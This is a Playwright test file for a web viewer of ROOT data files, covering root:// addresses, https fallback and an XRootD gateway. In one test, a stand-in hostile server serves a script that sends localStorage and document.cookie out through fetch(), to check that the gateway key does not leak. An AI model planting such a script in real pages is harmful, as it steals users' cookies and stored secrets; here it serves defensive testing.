import { readFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { createServer } from 'node:tls';
import { serve } from '../../../scripts/serve.mjs';
import { makeCertificates } from '../../../tests/servers/certificates';
import { realServers, startRealServer } from '../../../tests/servers/real-servers';
import { expect, row, samplePath, statistic, test } from '../../story';

const certificates = makeCertificates();
// The page meets a server whose authority no browser knows.
test.use({ ignoreHTTPSErrors: true });

test('a root:// address whose server gives the file by https, too', async ({ page, rangeServer }) => {
  test.skip(certificates === undefined, 'there is no openssl');
  const behind = new URL((await rangeServer('sample.root')).url);
  const door = createServer({ ...certificates }, (socket) => {
    const there = connect(Number(behind.port), '127.0.0.1');
    for (const one of [socket, there]) one.on('error', () => socket.destroy());
    socket.pipe(there).pipe(socket);
  });
  await new Promise<void>((done) => door.listen(0, done));
  const place = `localhost:${(door.address() as AddressInfo).port}${behind.pathname}`;
  try {
    await page.goto(`/?${new URLSearchParams({ url: `root://${place}` })}`);
    const fix = page.getByRole('alert').locator('.error-fix');
    await expect(fix).toContainText(`the same file at https://${place}`);
    await page.getByRole('button', { name: 'Open by https' }).click();
    await row(page, 'Events').click();
    await row(page, 'MET_pt').click();
    await expect(statistic(page, 'Entries')).toHaveText('2,400');
  } finally {
    door.close();
  }
});

test('a root:// address in a page that a gateway serves, and in one that none does', async ({ page }) => {
  test.skip(realServers.XRootD.program === undefined, 'there is no xrootd (Debian: xrootd-server)');
  const remote = await startRealServer(realServers.XRootD, readFileSync(samplePath));
  const place = `localhost:${new URL(remote.url).port}`;
  const address = `root://${place}//file.root`;
  const own = await serve({ port: 0, gateway: place });
  try {
    // Without a gateway the page says how to start one.
    await page.goto(`/?${new URLSearchParams({ url: address })}`);
    const alert = page.getByRole('alert');
    await expect(alert.locator('.error-message')).toHaveText(
      `${address}: browsers cannot use the XRootD protocol.`,
    );
    await expect(alert.locator('.error-fix')).toContainText(`xylem serve --gateway ${place}`);

    // The page that the gateway serves opens it, in a browser that came by the link.
    await page.goto(own.url);
    const field = page.getByRole('textbox', { name: 'Address of a ROOT file' });
    await field.fill(address);
    await field.press('Enter');
    await expect(alert.locator('.error-fix')).toContainText('Open the link that "xylem serve" printed');
    await page.goto(own.link);
    await expect(page).toHaveURL(own.url);
    await field.fill(address);
    await field.press('Enter');
    await row(page, 'Events').click();
    await row(page, 'MET_pt').click();
    await expect(statistic(page, 'Entries')).toHaveText('2,400');
    expect(new URL(page.url()).searchParams.get('url')).toBe(address);
    await page.reload();
    await expect(statistic(page, 'Entries')).toHaveText('2,400');

    // A server at another port that knows the name gets no key, whatever its page asks for.
    const key = new URL(own.link).searchParams.get('key') ?? '';
    let heard = '';
    const elsewhere = createHttpServer(({ headers, url }, answer) => {
      heard += JSON.stringify([url, headers]);
      const kept = 'Object.entries({ ...localStorage, cookie: document.cookie }).join()';
      answer
        .setHeader('Content-Type', 'text/html')
        .end(`<script>fetch('/kept?' + encodeURIComponent(${kept}))</script>`);
    });
    await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done));
    const tab = await page.context().newPage();
    const { hostname } = new URL(own.url);
    await tab.goto(`http://${hostname}:${(elsewhere.address() as AddressInfo).port}/`);
    await expect.poll(() => heard).toContain('/kept?cookie');
    await tab.close();
    elsewhere.close();
    expect(heard).not.toContain(key);

    // Another server is not on the list.
    await field.fill('root://localhost:1//file.root');
    await field.press('Enter');
    await expect(alert.locator('.error-fix')).toContainText('xylem serve --gateway localhost:1');
  } finally {
    // It may still ask for its icon.
    await page.close();
    own.close();
    await remote.stop();
  }
});
